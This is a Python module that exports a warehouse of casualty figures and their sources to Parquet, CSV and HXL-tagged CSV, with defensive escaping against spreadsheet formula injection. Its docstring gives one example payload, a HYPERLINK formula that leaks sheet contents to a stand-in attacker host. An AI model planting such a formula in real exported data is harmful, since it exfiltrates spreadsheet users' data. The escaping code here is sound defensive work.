"""Exports of the published warehouse: Parquet (partitioned by source), CSV, and HXL-tagged
CSV for humanitarian tools. Each export reads one read-only connection, so it is one
consistent snapshot even while a run loads.

CSV is opened by spreadsheets, which run a cell starting with `=`, `+`, `-` or `@` as a
formula: a document titled `=HYPERLINK("http://evil.example/?"&A1,"Open")` would become a
link leaking the sheet. Text cells starting with one of those (or a tab or carriage return)
get a leading `'`, as OWASP advises, unless the export is for a program (escape off)."""

from __future__ import annotations

import csv
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

import duckdb

EXPORT_FORMATS = ("parquet", "csv", "hxl")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_PATTERN = "^[=+@\\t\\r-]"  # the same, as a DuckDB regular expression

# Figures with their provenance: what every export carries.
FIGURES_QUERY = """
SELECT f.figure_id, f.source_id, f.metric, f.victim_group, f.perpetrator, f.place,
       f.period_start, f.period_end, f.period_precision, f.count, f.count_high, f.qualifier,
       f.certainty, f.attribution, f.parent_figure_id, f.victim_raw, f.perpetrator_raw, f.place_raw,
       f.period_raw, p.url, p.final_url, p.fetched_at, p.http_status, p.sha256,
       p.archive_path, p.document_title, p.document_published, f.parser, f.parser_version,
       f.locator, f.snippet, f.run_id
FROM figures f JOIN figure_provenance p USING (figure_id)
ORDER BY f.source_id, f.period_start, f.figure_id
"""

# HXL: one row per claim scope (document, period, perpetrator, place), counts of people
# killed by victim group in columns, tagged with HXL hashtags under the header. Where a
# document states a count twice (a table and its prose), the table's count is used.
HXL_GROUPS: tuple[tuple[str, str, str], ...] = (
    ("people", "Killed (all people)", "#affected+killed"),
    ("civilians", "Civilians killed", "#affected+killed+civilians"),
    ("children", "Children killed", "#affected+killed+children"),
    ("women", "Women killed", "#affected+killed+women"),
    ("combatants", "Combatants killed", "#affected+killed+combatants"),
)
HXL_COLUMNS: tuple[tuple[str, str, str], ...] = (
    ("source_id", "Source", "#meta+source"),
    ("url", "Source URL", "#meta+source+url"),
    ("sha256", "Document SHA-256", "#meta+source+hash"),
    ("period_start", "Period start", "#date+start"),
    ("period_end", "Period end", "#date+end"),
    ("perpetrator", "Perpetrator", "#org+perpetrator+code"),
    ("perpetrator_raw", "Perpetrator as written", "#org+perpetrator+name"),
    ("country", "Country", "#country+code"),
    ("place", "Place", "#adm1+code"),
    ("place_raw", "Place as written", "#adm1+name"),
)


@dataclass(frozen=True)
class ExportResult:
    """What an export wrote."""

    format: str
    paths: list[Path]
    rows: int


def formula_safe(value: object) -> object:
    """A cell value a spreadsheet will show, not run: text starting like a formula gets a
    leading `'`; everything else is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def export(
    conn: duckdb.DuckDBPyConnection, fmt: str, out: Path, escape_formulas: bool = True
) -> ExportResult:
    """Write the warehouse's figures in one format under `out` (CSV and HXL text cells that
    start like a formula escaped, unless `escape_formulas` is off)."""
    if fmt not in EXPORT_FORMATS:
        raise ValueError(f"unknown format {fmt!r}; choose one of {', '.join(EXPORT_FORMATS)}")
    out.mkdir(parents=True, exist_ok=True)
    if fmt == "parquet":
        return _parquet(conn, out)
    if fmt == "csv":
        return _csv(conn, out, escape_formulas)
    return _hxl(conn, out, escape_formulas)


def _formula_safe_query(conn: duckdb.DuckDBPyConnection, query: str) -> str:
    """`query` with each text column passed through the formula escape, in SQL."""
    columns = conn.execute(f"DESCRIBE ({query})").fetchall()
    projection = []
    for name, column_type, *_ in columns:
        quoted = '"' + name.replace('"', '""') + '"'
        if column_type == "VARCHAR":
            projection.append(
                f"CASE WHEN regexp_matches({quoted}, '{_FORMULA_PATTERN}') "
                f"THEN '''' || {quoted} ELSE {quoted} END AS {quoted}"
            )
        else:
            projection.append(quoted)
    return f"SELECT {', '.join(projection)} FROM ({query})"


def _quoted(path: Path) -> str:
    return "'" + str(path).replace("'", "''") + "'"


def _parquet(conn: duckdb.DuckDBPyConnection, out: Path) -> ExportResult:
    target = out / "figures"
    conn.execute(
        f"COPY ({FIGURES_QUERY}) TO {_quoted(target)} "
        "(FORMAT parquet, PARTITION_BY (source_id), COMPRESSION zstd, OVERWRITE_OR_IGNORE)"
    ).fetchall()
    documents = out / "documents.parquet"
    conn.execute(
        f"COPY (SELECT * FROM documents ORDER BY sha256) TO {_quoted(documents)} "
        "(FORMAT parquet, COMPRESSION zstd)"
    ).fetchall()
    rows = conn.execute(f"SELECT count(*) FROM ({FIGURES_QUERY})").fetchall()[0][0]
    return ExportResult("parquet", [*sorted(target.rglob("*.parquet")), documents], rows)


def _csv(conn: duckdb.DuckDBPyConnection, out: Path, escape_formulas: bool) -> ExportResult:
    target = out / "figures.csv"
    query = _formula_safe_query(conn, FIGURES_QUERY) if escape_formulas else FIGURES_QUERY
    conn.execute(f"COPY ({query}) TO {_quoted(target)} (HEADER, DELIMITER ',')").fetchall()
    rows = conn.execute(f"SELECT count(*) FROM ({FIGURES_QUERY})").fetchall()[0][0]
    return ExportResult("csv", [target], rows)


def hxl_rows(conn: duckdb.DuckDBPyConnection) -> tuple[list[str], list[str], list[Sequence]]:
    """Header, hashtag row and data rows of the HXL export."""
    pivots = ",\n".join(
        f"arg_min(count, parser_rank) FILTER (victim_group = '{group}') AS \"{group}\""
        for group, _, _ in HXL_GROUPS
    )
    rows = conn.execute(
        f"""
        SELECT f.source_id, f.url, f.sha256, f.period_start, f.period_end, f.perpetrator,
               any_value(f.perpetrator_raw) AS perpetrator_raw,
               any_value(s.country) AS country, f.place, any_value(f.place_raw) AS place_raw,
               {pivots}
        FROM (
            SELECT *, CASE parser WHEN 'pdf_tables' THEN 1 WHEN 'html_tables' THEN 2 ELSE 3 END
                   AS parser_rank
            FROM current_figures
        ) f LEFT JOIN sources s USING (source_id)
        WHERE f.metric = 'killed' AND f.period_start IS NOT NULL AND f.perpetrator IS NOT NULL
        GROUP BY f.source_id, f.url, f.sha256, f.period_start, f.period_end, f.perpetrator,
                 f.place
        ORDER BY f.source_id, f.period_start, f.url, f.perpetrator, f.place NULLS FIRST
        """
    ).fetchall()
    header = [label for _, label, _ in HXL_COLUMNS] + [label for _, label, _ in HXL_GROUPS]
    hashtags = [tag for _, _, tag in HXL_COLUMNS] + [tag for _, _, tag in HXL_GROUPS]
    return header, hashtags, list(rows)


def _hxl(conn: duckdb.DuckDBPyConnection, out: Path, escape_formulas: bool) -> ExportResult:
    header, hashtags, rows = hxl_rows(conn)
    target = out / "figures.hxl.csv"
    with open(target, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerow(hashtags)
        for row in rows:
            cells = [formula_safe(v) if escape_formulas else v for v in row]
            writer.writerow(["" if value is None else value for value in cells])
    return ExportResult("hxl", [target], len(rows))
